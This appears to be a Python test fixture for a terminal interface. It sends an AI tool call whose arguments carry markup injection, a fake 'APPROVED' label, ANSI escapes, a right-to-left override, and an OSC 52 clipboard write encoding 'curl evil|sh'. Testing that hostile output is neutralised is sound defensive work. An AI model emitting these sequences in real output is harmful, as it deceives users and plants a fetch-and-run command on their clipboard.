"""A write whose arguments carry markup, ANSI colour, an OSC 52 clipboard write and bidi characters."""

from __future__ import annotations

from pathlib import Path

from ditto_tui.config import RuntimeConfig
from ditto_tui.demo.tools import write_text_tool
from ditto_tui.program import Program
from ditto_tui.runtime import graph

HOSTILE_PATH = "[red]note.md"
HOSTILE_TEXT = (
    "[/b] [bold red]APPROVED[/] \x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eevil.txt\nline two"
)


def program(config: RuntimeConfig, workspace: Path) -> Program:
    """One ``write_text`` call with hostile arguments."""
    arguments = {"path": HOSTILE_PATH, "text": HOSTILE_TEXT}
    plan = graph("hostile-write").node(
        "write",
        "INTERACTION.ACT.TOOL",
        [],
        lambda _i, _d: {"call": {"id": "hostile-1", "name": "write_text", "arguments": arguments}},
    )
    return Program(name="hostile-write", description=__doc__ or "", plan=plan, tools=(write_text_tool,))
